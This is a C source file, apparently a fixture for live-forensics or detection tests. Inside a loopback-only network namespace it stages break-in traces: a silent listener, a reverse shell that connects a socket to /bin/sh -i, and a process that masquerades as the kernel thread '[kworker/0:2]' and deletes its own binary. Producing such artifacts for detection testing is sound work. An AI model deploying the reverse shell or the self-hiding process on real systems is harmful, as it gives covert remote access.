/*
 * What of the break-in is not on the disk: who is connected, who listens, and what runs without
 * a file. For a network namespace of its own, in which every address is one of its loopback.
 *
 *	channel up ADDRESS...		the addresses, IPv4
 *	channel serve ADDRESS PORT	takes calls and says nothing
 *	channel bounce ADDRESS PORT PORT	under the name of a thread of the kernel and without its
 *					file: connected to the first port, listening on the second
 *	channel shell ADDRESS PORT	a shell on a connection
 *
 * Each but the first goes on until it is killed.
 */
#include <arpa/inet.h>
#include <net/if.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <unistd.h>

#define NAME "[kworker/0:2]"

static struct sockaddr_in address(const char *text, const char *port)
{
	struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons((uint16_t)atoi(port)) };

	inet_pton(AF_INET, text, &a.sin_addr);
	return a;
}

static int up(char *text[])
{
	int s = socket(AF_INET, SOCK_DGRAM, 0), bad = 0;
	struct ifreq r = { .ifr_name = "lo", .ifr_flags = IFF_UP | IFF_RUNNING };

	bad |= ioctl(s, SIOCSIFFLAGS, &r) < 0;
	for (int i = 0; text[i] != NULL; i++) {
		struct sockaddr_in a = address(text[i], "0");

		snprintf(r.ifr_name, sizeof(r.ifr_name), "lo:%d", i);
		memcpy(&r.ifr_addr, &a, sizeof(a));
		bad |= ioctl(s, SIOCSIFADDR, &r) < 0;
	}
	return bad;
}

static int listener(const char *text, const char *port)
{
	struct sockaddr_in a = address(text, port);
	int s = socket(AF_INET, SOCK_STREAM, 0);

	return bind(s, (struct sockaddr *)&a, sizeof(a)) < 0 || listen(s, 5) < 0 ? -1 : s;
}

static int caller(const char *text, const char *port)
{
	struct sockaddr_in a = address(text, port);
	int s = socket(AF_INET, SOCK_STREAM, 0);

	return connect(s, (struct sockaddr *)&a, sizeof(a)) < 0 ? -1 : s;
}

static int serve(char *arg[])
{
	int s = listener(arg[0], arg[1]);

	while (s >= 0 && accept(s, NULL, NULL) >= 0)
		;
	return 1;
}

static int bounce(const char *self, char *arg[])
{
	char path[512];
	ssize_t n = readlink("/proc/self/exe", path, sizeof(path) - 1);

	if (strcmp(self, NAME) != 0) {
		execl("/proc/self/exe", NAME, "bounce", arg[0], arg[1], arg[2], NULL);
		return 1;
	}
	path[n < 0 ? 0 : n] = '\0';
	prctl(PR_SET_NAME, "kworker/0:2");
	if (caller(arg[0], arg[1]) < 0 || listener("0.0.0.0", arg[2]) < 0 || unlink(path) < 0)
		return 1;
	for (;;)
		pause();
}

static int shell(char *arg[])
{
	int s = caller(arg[0], arg[1]);

	for (int fd = 0; fd < 3; fd++)
		dup2(s, fd);
	execl("/bin/sh", "sh", "-i", NULL);
	return 1;
}

int main(int argc, char *argv[])
{
	const char *what = argc > 1 ? argv[1] : "";

	if (strcmp(what, "up") == 0)
		return up(argv + 2);
	if (strcmp(what, "serve") == 0 && argc == 4)
		return serve(argv + 2);
	if (strcmp(what, "bounce") == 0 && argc == 5)
		return bounce(argv[0], argv + 2);
	if (strcmp(what, "shell") == 0 && argc == 4)
		return shell(argv + 2);
	return 2;
}
